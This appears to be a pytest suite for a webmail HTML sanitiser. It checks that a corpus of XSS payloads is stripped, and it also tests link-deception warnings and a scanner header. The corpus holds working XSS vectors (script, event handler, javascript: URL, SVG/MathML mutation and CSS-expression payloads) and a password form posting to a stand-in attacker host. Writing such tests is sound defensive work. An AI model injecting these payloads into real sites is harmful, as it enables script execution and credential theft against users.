"""An XSS corpus of hostile HTML mails: what the sanitiser lets through contains nothing that can run or load."""

from __future__ import annotations

import re

import pytest

from services.webmail.mailstore import parse
from services.webmail.sanitize import clean_style, deceptive, sanitize
from services.webmail.suspicious import EVERY_LINK, flagged_urls
from tests.webmail.conftest import symbols_line

CORPUS = {
    "script": "<p>Chào anh</p><script>alert('xss')</script>",
    "script_case": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "event_handler": '<img src=x onerror="alert(1)"><body onload=alert(2)><div onmouseover="alert(3)">hover</div>',
    "javascript_url": '<a href="javascript:alert(1)">bấm</a><a href=" JaVaScRiPt:alert(1)">x</a>',
    "javascript_entity": '<a href="&#106;avascript:alert(1)">x</a><a href="jav&#x09;ascript:alert(1)">y</a>',
    "svg": '<svg onload=alert(1)><script>alert(2)</script><a xlink:href="javascript:alert(3)">s</a></svg>',
    "svg_img": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "css_expression": '<div style="width: expression(alert(1)); color: red">t</div>',
    "css_url": '<p style="background-image: url(javascript:alert(1)); behavior: url(x.htc)">u</p>',
    "css_escape": '<p style="color: \\65 xpression(alert(1))">e</p>',
    "css_position": '<div style="position: fixed; top: 0; left: 0; z-index: 9999">phủ kín màn hình</div>',
    "style_tag": "<style>@import 'http://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "base": '<base href="http://evil.example/"><a href="login">đăng nhập</a>',
    "data_url": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>'
                '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "form": '<form action="http://evil.example/steal"><input name="password"><button>Gửi</button></form>',
    "iframe_object_embed": '<iframe src="http://evil.example"></iframe><object data="x.swf"></object>'
                           '<embed src="x.swf">',
    "link_import": '<link rel="stylesheet" href="http://evil.example/x.css"><link rel="import" href="x.html">',
    "mathml": '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    "noscript_mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "srcset": '<img srcset="http://evil.example/a.png 1x" src="http://evil.example/b.png">',
    "formaction": '<button formaction="javascript:alert(1)">x</button>',
    "vbscript": '<a href="vbscript:msgbox(1)">vb</a>',
    "comment_trick": "<!--<script>alert(1)</script>--><p>ok</p>",
    "relative_into_webmail": '<a href="/logout">out</a><img src="/api/activity">',
}

# Whatever can run script, load something, navigate on its own or post data.
EXECUTABLE = re.compile(
    r"<\s*(script|style|iframe|object|embed|svg|math|meta|base|link|form|input|button|template|noscript)\b"
    r"|\bon[a-z]+\s*=|javascript:|vbscript:|data:|expression|url\(|@import|srcset|formaction|position\s*:|"
    r"href=\"/(?!link\?)|src=", re.I)


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_hostile_html_keeps_nothing_executable(name):
    cleaned = sanitize(CORPUS[name]).html
    assert not EXECUTABLE.search(cleaned), cleaned


def test_harmless_formatting_survives_in_vietnamese_and_chinese():
    cleaned = sanitize('<p style="color: #0b5cad; font-weight: bold">Kính gửi <b>anh Hiếu</b>, 张伟 已审阅。</p>'
                       '<table><tr><td>Số</td><td>数量</td></tr></table>').html
    assert cleaned == ('<p style="color: #0b5cad; font-weight: bold">Kính gửi <b>anh Hiếu</b>, 张伟 已审阅。</p>'
                       '<table><tbody><tr><td>Số</td><td>数量</td></tr></tbody></table>')


def test_remote_images_only_when_asked():
    html = '<img src="https://anh.example/logo.png" alt="logo">'
    assert sanitize(html).html == '<img alt="logo">' and sanitize(html).remote_images_blocked == 1
    assert 'src="https://anh.example/logo.png"' in sanitize(html, allow_remote_images=True).html


def test_links_whose_text_names_another_place_or_that_the_scanner_flagged_go_through_the_warning():
    html = ('<a href="https://dichvucong.gov.vn/x">dichvucong.gov.vn/x</a>'
            '<a href="http://evil.example/">https://www.dichvucong.gov.vn</a>'
            '<a href="https://short.example/q">Xem chi tiết</a>')
    cleaned = sanitize(html, flagged={"https://short.example/q"})
    assert cleaned.warned_links == ["http://evil.example/", "https://short.example/q"]
    assert '<a href="https://dichvucong.gov.vn/x" target="_blank"' in cleaned.html
    assert cleaned.html.count('href="/link?') == 2


@pytest.mark.parametrize(("text", "href", "expected"), [
    ("www.vietcombank.com.vn", "http://vietcombank.example.ru/", True),
    ("https://www.tiengiang.gov.vn/tin", "https://tiengiang.gov.vn/khac", False),
    ("Bấm vào đây", "http://anywhere.example/", False),
    ("hanhchinh@tiengiang.gov.vn", "mailto:hanhchinh@tiengiang.gov.vn", False),
])
def test_deceptive(text, href, expected):
    assert deceptive(text, href) is expected


def test_clean_style_keeps_looks_only():
    assert clean_style("color:red; position:absolute; margin: 0 4px; background:url(x)") == "color: red; margin: 0 4px"
    assert clean_style("width: expression(alert(1))") is None


def test_flagged_urls_come_from_the_first_symbols_header_or_else_every_link_of_a_phishing_verdict():
    head = symbols_line([("PHISHING_SUSPICIOUS_URL", ["https://bit.example/abc"]), ("SPAM_GTUBE", ["x"])])
    forged = symbols_line([("PHISHING_SUSPICIOUS_URL", [])])  # written by the sender, below delivery's
    message = parse(f"{head}{forged}Subject: a\r\n\r\nbody".encode())
    assert flagged_urls(message) == {"https://bit.example/abc"}
    scan_only = parse(b"X-Govmail-Scan: action=add_header score=9.00 required=5.00 symbols=PHISHING_DECEPTIVE,X\r\n"
                      b"Subject: b\r\n\r\nbody")
    assert flagged_urls(scan_only) == {EVERY_LINK}
    assert sanitize('<a href="https://dichvucong.gov.vn">Dịch vụ công</a>', flagged_urls(scan_only)).warned_links == [
        "https://dichvucong.gov.vn"]
    clean = parse(b"X-Govmail-Scan: action=accept score=0.00 required=5.00 symbols=none\r\nSubject: c\r\n\r\nx")
    assert flagged_urls(clean) == set()
